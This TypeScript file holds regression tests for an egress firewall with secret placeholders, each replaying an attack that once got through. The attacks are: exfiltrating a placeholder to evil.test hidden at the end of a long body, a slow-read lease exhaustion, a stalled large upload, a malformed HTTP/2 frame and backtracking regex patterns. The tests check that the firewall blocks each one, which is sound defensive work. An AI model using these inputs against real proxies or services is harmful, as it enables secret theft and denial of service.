/** Attacks that once went through, each as it was found. */
import assert from 'node:assert/strict';
import type net from 'node:net';
import { describe, test } from 'node:test';
import { compilePolicy } from '../../kernel/policy/index.ts';
import { storeEgressConfig } from '../../kernel/firewall/config.ts';
import { callThrough } from '../support/firewall.ts';
import { eventually } from '../support/wait.ts';
import { assertRefused, assertUntouched, exchangeRaw, gauge, openTls, startScene, within } from './support.ts';

describe('what was found once', { timeout: 600_000 }, () => {
  test('a client of HTTP/2 that is killed leaves no tunnel', async () => {
    await using scene = await startScene();
    const socket = await openTls(scene, { alpn: ['h2'] });
    socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0])]));
    await new Promise<void>((resolve) => socket.once('data', () => resolve()));
    // the kernel closes the connection of a process that is killed: no word of TLS or HTTP/2 comes before
    socket.destroy();
    await eventually(async () => (await gauge(scene.t, 'centaur_egress_tunnels_open')) === 0, { what: 'the end of the tunnel' });
  });

  test('a placeholder is refused at the very end of a long body, also where the search holds its end back', async () => {
    await using scene = await startScene({ hosts: ['evil.test'], secret: { match_headers: ['x-api-key'] } });
    await scene.t.secret('TAIL', { value: `${scene.placeholder.slice(-4)}-and-something-more-0123`, hosts: [scene.authority] });
    await scene.t.configure({
      allow: [{ host: `evil.test:${scene.service.port}` }],
      allow_cidrs: ['127.0.0.1'],
      ca_pems: [scene.service.caPem],
    });
    while ((await callThrough(scene.t, scene.lease.token, scene.url('/', 'evil.test'))).status !== 200);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    await scene.reset();
    const body = Buffer.concat([Buffer.alloc(1_500_000, 'x'), Buffer.from(scene.placeholder)]);
    const answer = await callThrough(scene.t, scene.lease.token, scene.url('/x', 'evil.test'), { method: 'POST', body }).catch(() => ({
      status: 0,
      body: '',
    }));
    assert.ok([0, 413].includes(answer.status), String(answer.status));
    assert.equal(scene.service.seen.length, 0);
    await assertRefused(scene, answer, 'BODY_TOO_LONG');
  });

  test('readers that stop keep no other lease from the service, however many', async () => {
    const mb = Buffer.alloc(1 << 20, 'x');
    await using scene = await startScene({
      handler: (request, response) => {
        if (request.url !== '/long') return void response.end('ok');
        let left = 64;
        const more = () => {
          while (left > 0 && !response.destroyed) {
            left -= 1;
            if (!response.write(mb)) return void response.once('drain', more);
          }
          response.end();
        };
        more();
      },
    });
    const sockets: net.Socket[] = await Promise.all(Array.from({ length: 64 }, () => openTls(scene)));
    for (const socket of sockets) {
      socket.pause();
      socket.write(`GET /long HTTP/1.1\r\nHost: ${scene.authority}\r\nx-api-key: ${scene.placeholder}\r\n\r\n`);
    }
    // how soon is up to the machine: 64 answers of 64 MiB are begun at once
    await eventually(() => scene.service.seen.length === 64, { timeoutMs: 100_000 });
    const other = await scene.t.lease(['API_KEY']);
    try {
      const answer = await within(
        60,
        callThrough(scene.t, other.token, scene.url('/fine'), { headers: { 'x-api-key': other.placeholders['API_KEY'] } }),
      );
      assert.equal(answer.status, 200);
    } finally {
      for (const socket of sockets) socket.destroy();
    }
  });

  test('a long body that stops on its way is cut off', async () => {
    await using scene = await startScene();
    await scene.reset();
    const socket = await openTls(scene);
    try {
      const answer = await within(
        100,
        exchangeRaw(
          socket,
          `POST /x HTTP/1.1\r\nHost: ${scene.authority}\r\nx-api-key: ${scene.placeholder}\r\nContent-Length: 5000000\r\n\r\n${'x'.repeat(2_000_000)}`,
        ),
      );
      assert.ok([0, 408].includes(answer.status));
      await assertRefused(scene, answer, 'REQUEST_TOO_SLOW');
    } finally {
      socket.destroy();
    }
  });

  test('a violation of HTTP/2 is in the log', async () => {
    await using scene = await startScene();
    await scene.reset();
    const socket = await openTls(scene, { alpn: ['h2'] });
    socket
      .resume()
      .write(
        Buffer.concat([
          Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
          Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]),
          Buffer.from([0, 0, 5, 1, 5, 0, 0, 0, 1, 0x3f, 0xff, 0xff, 0xff, 0x7f]),
        ]),
      );
    await new Promise<void>((resolve) => socket.once('close', () => resolve()));
    assertUntouched(scene);
    await assertRefused(scene, '', 'BAD_REQUEST');
  });

  test('a certificate that is none is not stored', async () => {
    await using scene = await startScene();
    await assert.rejects(
      storeEgressConfig({ store: scene.t.store, audit: scene.t.installation.audit }, 'test', {
        ca_pems: ['-----BEGIN CERTIFICATE-----\nnone\n-----END CERTIFICATE-----'],
      }),
      RangeError,
    );
  });

  test('patterns that make a decision slow are not published', () => {
    const policy = (rules: number, pattern: (i: number) => string) =>
      compilePolicy(
        `version: 1\ndefault: deny\nrules:\n${Array.from({ length: rules }, (_, i) => `  - {id: r${i}, host: localhost, effect: allow, when: 'request.path.re("${pattern(i)}")'}\n`).join('')}`,
      );
    for (const broken of [policy(1, () => 'a.{900}[cd]'), policy(100, (i) => `a.{${150 + i}}[cd]`)]) {
      assert.equal(broken.policy, undefined);
      assert.match(broken.problems[0]?.message ?? '', /instructions/);
    }
    assert.notEqual(policy(100, (i) => `^/repos/[^/]+/[^/]+/(pulls|issues)/${i}$`).policy, undefined);
  });
});
